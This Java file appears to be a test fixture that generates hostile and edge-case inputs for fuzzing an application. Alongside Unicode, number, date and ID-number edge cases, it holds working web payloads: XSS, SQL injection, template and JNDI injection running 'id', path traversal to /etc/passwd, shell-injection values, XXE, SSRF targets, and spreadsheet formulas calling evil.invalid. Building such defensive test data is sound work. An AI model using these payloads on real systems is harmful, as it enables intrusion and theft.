package cn.yimen.hostile;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * 坏值: made by class, not by list. Markup carries the element {@link #TAG}, expressions the product {@link #PRODUCT}, so
 * that an answer in which one of them came to life is found without knowing which was sent.
 */
final class Values {

    static final String TAG = "yimen-hostile";
    static final String PRODUCT = "800701";
    private static final String SUM = "913*877";

    /** The same values in the same order in each run. */
    static final List<Value> ALL = all();

    private Values() {}

    private static List<Value> all() {
        var values = new ArrayList<Value>();
        blank(values);
        controls(values);
        scripts(values);
        names(values);
        numbers(values);
        dates(values);
        identities(values);
        markup(values);
        expressions(values);
        sql(values);
        paths(values);
        formulas(values);
        lengths(values);
        words(values);
        Set<String> seen = new LinkedHashSet<>();
        values.removeIf(value -> !seen.add(value.text()));
        return List.copyOf(values);
    }

    private static void add(List<Value> to, String kind, String... texts) {
        for (var text : texts) {
            to.add(Value.typed(kind, text));
        }
    }

    private static void blank(List<Value> to) {
        add(
                to, "blank", "", " ", "\t", "\n", "\r\n", "\u3000", "\u00a0", "\u200b", "\ufeff", "\u2028", "\u2029",
                "\u115f", "\u3164", "\u2800");
        add(
                to,
                "blank",
                " 张三 ",
                "\u3000张三\u3000",
                "张\u00a0三",
                "张\u200b三",
                "张\u00ad三",
                "\ufeff张三",
                "张\n三",
                "张\r\n三",
                "张\t三",
                "张\r三",
                "张\u0085三");
    }

    private static void controls(List<Value> to) {
        for (int c = 0; c < 0x20; c++) {
            add(to, "control", "字" + (char) c + "字");
        }
        for (int c = 0x7f; c < 0xa0; c += 4) {
            add(to, "control", "字" + (char) c + "字");
        }
        add(to, "control", "\u0000", "\u0000\u0000字", "字\u0000", "\u001b[31m红\u001b[0m", "\u0007", "字\u0008\u0008");
        for (var half : new String[] {"\ud800", "\udbff", "\udc00", "\udfff"}) {
            add(to, "half character", half, "字" + half, half + "字", half + half);
        }
        add(
                to,
                "no character",
                "\uffff",
                "字\ufffe",
                "\ufdd0",
                "\ufdef字",
                Character.toString(0x1fffe),
                Character.toString(0x10ffff),
                "\ue000",
                Character.toString(0xf0000));
        for (int c : new int[] {
            0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x061c
        }) {
            add(to, "direction", "张" + Character.toString(c) + "三");
        }
        add(
                to,
                "direction",
                "\u202efdp.exe",
                "\u202e000,1元",
                "א\u05d1\u05d2 123 ابت",
                "مرحبا بالعالم",
                "\u0628\u0651\u064e");
    }

    private static void scripts(List<Value> to) {
        add(
                to,
                "script",
                "Ω≈ç√∫˜µ≤≥÷",
                "åß∂ƒ©˙∆˚¬…æ",
                "œ∑´®†¥¨ˆøπ",
                "ЁЂЃЄЅІЇЈ",
                "٠١٢٣٤٥٦٧٨٩",
                "०१२३",
                "ด้้้้้็็็็็้้้้้",
                "ﷺ",
                "ａｂｃ１２３",
                "①②③",
                "ⅣⅫ",
                "㈠㈡",
                "㎏㎡");
        add(
                to,
                "script",
                "e\u0301",
                "é",
                "A\u030a",
                "\u212b",
                "ﬁ",
                "ß",
                "ẞ",
                "İ",
                "ı",
                "ſ",
                "Ǆ",
                "ΐ",
                "῁",
                "\u1100\u1161\u11a8",
                "각");
        var zalgo = new StringBuilder("字");
        for (int i = 0; i < 60; i++) {
            zalgo.append((char) (0x300 + i));
        }
        add(to, "script", zalgo.toString(), "\u0301\u0301\u0301");
        for (int c : new int[] {0x1f468, 0x1f1e8, 0x1f3fb, 0x1f9d1, 0x2764, 0x1f600, 0x1f4a9, 0x1fae0}) {
            add(
                    to,
                    "picture",
                    Character.toString(c),
                    "张" + Character.toString(c),
                    Character.toString(c).repeat(40));
        }
        add(
                to,
                "picture",
                "👨\u200d👩\u200d👧\u200d👦",
                "🇨🇳",
                "🇨",
                "👩🏽\u200d🚀",
                "❤\ufe0f",
                "1\ufe0f\u20e3",
                "🏴\udb40\udc67\udb40\udc62\udb40\udc7f");
    }

    private static void names(List<Value> to) {
        add(
                to,
                "name",
                "阿依古丽·买买提",
                "买买提•吐尔逊",
                "尼玛．扎西",
                "欧阳‧娜娜",
                "王\ud840\udc0b",
                Character.toString(0x20000),
                Character.toString(0x2a6d6),
                Character.toString(0x30000),
                Character.toString(0x3134a),
                "㐂",
                "䶮",
                "\u3007",
                "\ufa0e",
                "\ufa29",
                "\uf900",
                "\u2f00",
                "\u2e80",
                "⿰亻言",
                "□",
                "？",
                "王 某",
                "王某某（曾用名：王二）",
                "O'Neil",
                "D’Arcy",
                "Null",
                "null",
                "NULL",
                "undefined",
                "NaN",
                "None",
                "nil",
                "true",
                "false",
                "N/A",
                "-",
                "无",
                "不详",
                "测试",
                "Nguyễn Văn A",
                "Zoë",
                "Björk",
                "van der Berg",
                "x",
                "王",
                "司马相如如如如如如如");
    }

    private static void numbers(List<Value> to) {
        add(
                to,
                "number",
                "0",
                "-0",
                "00",
                "+0",
                "-1",
                "-0.01",
                "0.001",
                "0.005",
                "0.004999",
                "1.005",
                "1.",
                ".5",
                "1..2",
                "1.2.3",
                "1,000",
                "1，000",
                "1 000",
                "1'000",
                "1_000",
                "10,00",
                "１２３",
                "一百",
                "壹佰元整",
                "百元",
                "100元",
                "¥100",
                "￥100",
                "$100",
                "100.00",
                "100.000",
                "1e3",
                "1E3",
                "1e-3",
                "1e308",
                "1e309",
                "-1e309",
                "1e999999999",
                "1E+2147483647",
                "1e-2147483648",
                "9e99999",
                "0x10",
                "0b1",
                "010",
                "1L",
                "1d",
                "1f",
                "Infinity",
                "-Infinity",
                "∞",
                "NaN",
                "½",
                "1/2",
                "1/0",
                "0/0",
                "1+1",
                "--1",
                "+-1",
                "1-",
                "- 1",
                "−1",
                "﹣1",
                "－1",
                "²",
                "१०",
                "٣٤",
                "1\u00a0000",
                "1\u202f000",
                "%",
                "50%",
                "100%",
                "101%",
                "-1%",
                "％");
        for (var edge : new long[] {
            Byte.MAX_VALUE,
            Short.MAX_VALUE,
            Integer.MAX_VALUE,
            Integer.MIN_VALUE,
            Long.MAX_VALUE,
            Long.MIN_VALUE,
            1L << 32,
            (1L << 53) + 1
        }) {
            add(to, "number", Long.toString(edge));
        }
        add(
                to,
                "number",
                "9223372036854775808",
                "-9223372036854775809",
                "92233720368547758.07",
                "92233720368547758.08",
                "18446744073709551616",
                "340282366920938463463374607431768211456",
                "99999999.99",
                "100000000",
                "999999999999",
                "999999999999.99",
                "2147483648",
                "-2147483649",
                "65536",
                "32768",
                "256",
                "9".repeat(30),
                "9".repeat(400),
                "0." + "0".repeat(300) + "1",
                "0".repeat(5000),
                "1" + "0".repeat(5000),
                "0.1e1",
                "1.7976931348623157E+308",
                "4.9E-324",
                "0.30000000000000004");
    }

    private static void dates(List<Value> to) {
        add(
                to,
                "date",
                "2026-02-29",
                "2024-02-29",
                "2025-02-30",
                "2026-13-01",
                "2026-00-10",
                "2026-01-00",
                "2026-01-32",
                "0000-01-01",
                "0000-00-00",
                "0001-01-01",
                "-0001-01-01",
                "1582-10-10",
                "1752-09-05",
                "1899-12-31",
                "1900-01-01",
                "1900-02-29",
                "1969-12-31",
                "1970-01-01",
                "1986-05-04",
                "1991-04-14",
                "2038-01-19",
                "2038-01-20",
                "2099-12-31",
                "2100-02-29",
                "9999-12-31",
                "10000-01-01",
                "+999999999-12-31",
                "-999999999-01-01",
                "999999-01-01",
                "294277-01-10",
                "5874898-01-01",
                "4714-11-24",
                "2026/1/1",
                "2026.1.1",
                "2026年1月1日",
                "二〇二六年一月一日",
                "20260101",
                "260101",
                "01/02/2026",
                "2026-1",
                "2026-13",
                "2026-00",
                "9999-12",
                "10000-01",
                "2026",
                "1-1",
                "13-45",
                "2026-01-01T00:00:00",
                "2026-01-01T25:61:61",
                "2026-01-01T00:00:00Z",
                "2026-12-31T23:59:60Z",
                "2026-W01-1",
                "2026-366",
                "2028-366",
                "今天",
                "明天",
                "昨天",
                "now",
                "today",
                "infinity",
                "-infinity",
                "epoch",
                "24:00",
                "25:00",
                "12:60",
                "-1:00",
                "2026-06-31",
                "2026-09-31",
                "２０２６-０１-０１",
                "2026--01-01",
                "2026-01-01-",
                "2026-01-01 BC",
                "12026-01-01",
                "1e4-01-01",
                "2026-2-2",
                "3000-01-01",
                "1800-01-01");
    }

    private static void identities(List<Value> to) {
        for (var body : new String[] {
            "52040219700230001",
            "52040220260101001",
            "52040218000101001",
            "52040299991231001",
            "00000019700101001",
            "99999919700101001",
            "52040219700101000",
            "52040219701301001",
            "52040219700132001",
            "11010119000307001",
            "81000019900101001"
        }) {
            add(to, "identity", body + check(body), body + (check(body) == '0' ? '1' : '0'));
        }
        var good = "52040219850712031";
        var number = good + check(good);
        add(
                to,
                "identity",
                number.substring(0, 17),
                number + "0",
                number.toLowerCase(java.util.Locale.ROOT),
                number.substring(0, 6) + " " + number.substring(6),
                "\u202d" + number + "\u202c",
                number.replace('0', 'O'),
                number.replace('1', 'l'),
                wide(number),
                number + "\u200b",
                "'" + number,
                "=\"" + number + "\"",
                "5.20402E+17",
                "520402850712031",
                "H1234567890",
                "A123456789",
                "护照E12345678",
                "52040219850712031x",
                "52040219850712031Ⅹ",
                "52040219850712031×",
                "x".repeat(18),
                "000000000000000000");
        add(
                to,
                "telephone",
                "13900001234",
                "1390000123",
                "139000012345",
                "+8613900001234",
                "008613900001234",
                "139-0000-1234",
                "139 0000 1234",
                "0851-33221234",
                "(0851)33221234",
                "110",
                "12345",
                "１３９００００１２３４",
                "13900001234;13900001235",
                "13900001234转8",
                "无");
        add(
                to,
                "card",
                "6222021234567890123",
                "6222021234567890124",
                "0000000000000000000",
                "1",
                "6222 0212 3456 7890 123",
                "62220212345678901234567890");
    }

    private static String wide(String number) {
        var out = new StringBuilder();
        number.chars().forEach(c -> out.append((char) (c + 0xFEE0)));
        return out.toString();
    }

    private static char check(String body) {
        int[] weights = {7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2};
        int sum = 0;
        for (int i = 0; i < 17; i++) {
            sum += (body.charAt(i) - '0') * weights[i];
        }
        return "10X98765432".charAt(sum % 11);
    }

    private static void markup(List<Value> to) {
        var tag = "<" + TAG + ">";
        add(
                to,
                "markup",
                tag,
                "</title>" + tag,
                "</textarea>" + tag,
                "</script>" + tag,
                "</select>" + tag,
                "</option>" + tag,
                "</style>" + tag,
                "</noscript>" + tag,
                "</template>" + tag,
                "--><" + TAG + ">",
                "]]>" + tag,
                "\">" + tag,
                "'>" + tag,
                "`>" + tag,
                "&lt;" + TAG + "&gt;",
                "&amp;lt;" + TAG + "&amp;gt;",
                "&#60;" + TAG + "&#62;",
                "&#x3c;" + TAG + "&#x3e;",
                "\\u003c" + TAG + "\\u003e",
                "%3C" + TAG + "%3E",
                "%253C" + TAG + "%253E",
                "＜" + TAG + "＞",
                "\ufeff<" + TAG + ">",
                "<" + TAG + "/x>",
                "<<" + TAG + ">>",
                "< " + TAG + ">",
                "<\u0000" + TAG + ">",
                "<" + TAG + "\u0000>",
                "<\n" + TAG + ">",
                "+ADw-" + TAG + "+AD4-",
                "&",
                "&&",
                "&amp;",
                "&nosuch;",
                "&#0;",
                "&#xD800;",
                "&#x110000;",
                "&#99999999999;",
                "<",
                ">",
                "<>",
                "<!",
                "<!--",
                "<?",
                "<?php echo 1?>",
                "<%= 1 %>",
                "<![CDATA[");
        for (var event : new String[] {
            "onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"
        }) {
            for (var quote : new String[] {"\"", "'", ""}) {
                add(
                        to,
                        "attribute",
                        "x" + quote + " " + event + "=" + quote + "yimenHostile()" + quote + " " + TAG + "=" + quote);
            }
            add(to, "markup", "<img src=x " + event + "=yimenHostile()>", "<svg/" + event + "=yimenHostile()>");
        }
        for (var element : new String[] {
            "script",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "style",
            "link",
            "meta",
            "base",
            "form",
            "input autofocus",
            "button",
            "video",
            "audio",
            "details open",
            "template",
            "marquee",
            "frameset",
            "isindex"
        }) {
            add(
                    to,
                    "markup",
                    "<" + element + " " + TAG + "=1>1</" + element + ">",
                    "\"><" + element + " " + TAG + "=1>");
        }
        for (var scheme : new String[] {
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "java\nscript:",
            "\u0001javascript:",
            "vbscript:",
            "data:text/html,",
            "data:text/html;base64,",
            "feed:javascript:",
            "view-source:",
            "jar:",
            "file:///",
            "//evil.invalid/",
            "\\\\evil.invalid\\",
            "http://evil.invalid/",
            "https:evil.invalid",
            "///evil.invalid",
            "/\\evil.invalid",
            "http:\\\\evil.invalid",
            "https://evil.invalid@localhost/"
        }) {
            add(to, "address", scheme + "yimenHostile()");
        }
        add(
                to,
                "markup",
                "<a href=\"javascript:yimenHostile()\" " + TAG + "=1>x</a>",
                "<svg><script " + TAG + "=1>1</script></svg>",
                "<math><mi xlink:href=\"javascript:yimenHostile()\" " + TAG + "=1>",
                "<style>@import '//evil.invalid'</style>",
                "expression(yimenHostile())",
                "\\\"-yimenHostile()-\\\"",
                "';yimenHostile();//",
                "\";yimenHostile();//",
                "</script><script " + TAG + ">",
                "{{constructor.constructor('yimenHostile()')()}}",
                "hx-get=\"/x\" hx-trigger=load",
                "<div hx-get=/logout hx-trigger=load " + TAG + "=1>",
                "<div data-hx-on:load=yimenHostile() " + TAG + "=1>");
    }

    private static void expressions(List<Value> to) {
        for (var open : new String[] {
            "${%s}",
            "#{%s}",
            "*{%s}",
            "@{%s}",
            "~{%s}",
            "[[${%s}]]",
            "[(${%s})]",
            "__${%s}__",
            "__${%s}__::x",
            "{{%s}}",
            "<%%= %s %%>",
            "%%{%s}",
            "${{%s}}",
            "#{{%s}}",
            "|${%s}|",
            "$%%7b%s%%7d",
            "#set($x=%s)${x}",
            "{%% if %s %%}",
            "a{{%s}}b",
            "@(%s)",
            "<#assign x=%s>${x}",
            "${T(java.lang.Math).abs(%s)}",
            "__${T(java.lang.Math).abs(%s)}__::.x",
            "~{::${%s}}",
            "${#ctx.x}${%s}",
            "${@environment}${%s}"
        }) {
            add(to, "expression", open.formatted(SUM));
        }
        add(
                to,
                "expression",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
                "#{T(java.lang.System).getenv()}",
                "${jndi:ldap://127.0.0.1:1/a}",
                "${jndi:dns://127.0.0.1/a}",
                "${${lower:j}ndi:ldap://127.0.0.1:1/a}",
                "${env:PATH}",
                "${sys:user.home}",
                "${java:version}",
                "${spring.datasource.password}",
                "#{systemProperties}",
                "%s%s%s%n",
                "%1$s",
                "%n",
                "%d",
                "%",
                "%%",
                "%x %p",
                "{0}",
                "{",
                "}",
                "{}",
                "{0",
                "'{0}'",
                "{0,number,#.##}",
                "{:>9999999}",
                "${",
                "#{",
                "[[",
                "[(",
                "__",
                "__$",
                "::",
                "~{",
                "redirect:http://evil.invalid",
                "forward:/actuator",
                "forward:/WEB-INF/web.xml",
                "classpath:application.yaml",
                "class.module.classLoader.URLs[0]",
                "\\",
                "\\\\",
                "\\0",
                "\\x00",
                "\\u0000",
                "\\n",
                "\\'",
                "$1",
                "$0",
                "\\1",
                "\\E",
                "\\Q",
                "(?",
                "[",
                "(((((",
                "*",
                ".*",
                "^(a+)+$",
                "a".repeat(40) + "!",
                "(a|aa)+" + "a".repeat(40));
    }

    private static void sql(List<Value> to) {
        for (var quote : new String[] {"'", "\"", "`", "\\'", "’", "ʼ", "＇", "%27", "''", "$$", "$a$", "E'", "U&'"}) {
            add(
                    to,
                    "sql",
                    quote,
                    quote + " or 1=1 --",
                    quote + ") or (1=1",
                    quote + "; select pg_sleep(9); --",
                    quote + " union select null,null --");
        }
        add(
                to,
                "sql",
                "1; drop table officer",
                "1 or 1=1",
                "1) or (1=1",
                "1' and 1=cast((select version()) as int) --",
                "'||(select pg_sleep(9))||'",
                "-1 union all select usename,passwd from pg_shadow",
                "1 order by 999",
                "id desc; --",
                "(select 1)",
                "case when 1=1 then 1 else 2 end",
                "/*",
                "*/",
                "--",
                "-- ",
                "#",
                ";",
                "%",
                "_",
                "%%",
                "__",
                "\\%",
                "like '%'",
                "?",
                "?1",
                ":x",
                ":id",
                "??",
                "$1",
                "copy x from program 'id'",
                "lo_import('/etc/passwd')",
                "{\"$gt\":\"\"}",
                "{\"a\":1}",
                "[1,2,3]",
                "[]",
                "{",
                "\"",
                "{\"a\":\"\\u0000\"}",
                "{\"a\":\"\\ud800\"}",
                "[".repeat(3000),
                "{\"a\":".repeat(3000),
                "<a>".repeat(2000),
                "(".repeat(3000),
                "*)(uid=*",
                "*)(|(uid=*))",
                "x' or name()='username' or 'x'='y");
    }

    private static void paths(List<Value> to) {
        for (var up :
                new String[] {"../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/", "..%c0%af", "..\u2215", "/..", "./"
                }) {
            add(to, "path", up + up + up + up + "etc/passwd", up + "application.yaml", up);
        }
        add(
                to,
                "path",
                "/etc/passwd",
                "/etc/passwd\u0000.jpg",
                "C:\\Windows\\win.ini",
                "\\\\?\\C:\\",
                "file:///etc/passwd",
                "/proc/self/environ",
                "/dev/null",
                "/dev/random",
                "CON",
                "NUL",
                "COM1.txt",
                "aux.pdf",
                ".",
                "..",
                "~",
                "~root",
                "|id",
                ";id",
                "`id`",
                "$(id)",
                "&& id",
                "& id &",
                "x\nid",
                "'$(id)'",
                "-rf",
                "--help",
                "@/etc/passwd",
                "a:b",
                "a*b?c",
                "a/b",
                "a\\b",
                "a ",
                "a.",
                ".htaccess",
                "WEB-INF/web.xml",
                "META-INF/MANIFEST.MF",
                "<xml><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
                "<!DOCTYPE a [<!ENTITY b \"c\"><!ENTITY d \"&b;&b;\">]><a>&d;</a>",
                "x\r\nSet-Cookie: yimen=1",
                "x\r\n\r\n<" + TAG + ">",
                "x%0d%0aSet-Cookie:%20yimen=1",
                "x\u560d\u560aSet-Cookie: yimen=1",
                "http://127.0.0.1:1/",
                "http://169.254.169.254/latest/",
                "http://[::1]/",
                "gopher://127.0.0.1",
                "user@example.invalid",
                "a@b@c",
                "\"a b\"@example.invalid",
                "x@[127.0.0.1]");
    }

    private static void formulas(List<Value> to) {
        for (var start : new String[] {
            "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", ";=", ",=", "\"=", "|", "%="
        }) {
            add(
                    to,
                    "formula",
                    start + "1+1",
                    start + "cmd|' /C calc'!A0",
                    start + "HYPERLINK(\"http://evil.invalid\",\"x\")");
        }
        add(
                to,
                "formula",
                "=IMPORTXML(\"http://evil.invalid\",\"//a\")",
                "=WEBSERVICE(\"http://evil.invalid\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "#REF!",
                "#DIV/0!",
                "1,2,3",
                "a;b;c",
                "\"a\"\"b\"",
                "a\"b",
                "a,b\nc,d");
    }

    private static void lengths(List<Value> to) {
        for (int length :
                new int[] {19, 20, 21, 31, 51, 61, 101, 201, 255, 256, 301, 501, 1001, 4001, 10_000, 65_536, 100_000}) {
            add(to, "length", "长".repeat(length));
        }
        add(
                to,
                "length",
                "a".repeat(100_000),
                "1".repeat(100_000),
                " ".repeat(100_000),
                "\n".repeat(20_000),
                "<".repeat(20_000),
                "\"".repeat(20_000),
                "&".repeat(20_000),
                "'".repeat(20_000),
                "😀".repeat(20_000),
                "a ".repeat(20_000),
                ",".repeat(20_000),
                "0".repeat(20_000),
                "-".repeat(20_000),
                "e\u0301".repeat(5_000),
                "\u202e".repeat(5_000),
                "王".repeat(99_999) + "·",
                "1".repeat(50_000) + "x",
                "2026-01-01 ".repeat(2_000));
    }

    private static void words(List<Value> to) {
        add(
                to,
                "word",
                "admin",
                "root",
                "clerk",
                "administrator",
                "ADMINISTRATOR",
                "ROLE_ADMINISTRATOR",
                "class",
                "this",
                "super",
                "constructor",
                "__proto__",
                "prototype",
                "toString",
                "hasOwnProperty",
                "length",
                "size",
                "empty",
                "valueOf",
                "CONFIRMED",
                "confirmed",
                "RECEIVED",
                "DIBAO_FAMILY",
                "MZ-01",
                "MZ-99",
                "520402",
                "520402109",
                "999999999",
                "00000000-0000-0000-0000-000000000000",
                "ffffffff-ffff-ffff-ffff-ffffffffffff",
                "1-1-1-1-1",
                "{00000000-0000-0000-0000-000000000000}",
                "00000000000000000000000000000000",
                "2026-JZ-000001",
                "2026-XX-999999",
                "on",
                "off",
                "yes",
                "no",
                "是",
                "否",
                "1",
                "2",
                "-2",
                "3.0",
                "t",
                "f");
        add(
                to,
                "word",
                "我们的父亲在天上",
                "如何买药",
                "🈶🈚️",
                "Ⅷ号",
                "上海市徐汇区华山路1954号",
                "贵州省安顺市平坝区",
                "（空）",
                "——",
                "……",
                "《低保》",
                "“引号”",
                "‘单’",
                "「角」",
                "～！@#￥%……&*（）",
                "`~!@#$%^&*()_+-=[]{}\\|;':\",./<>?",
                "ｈｔｔｐ：／／ｅｖｉｌ．ｉｎｖａｌｉｄ");
    }
}
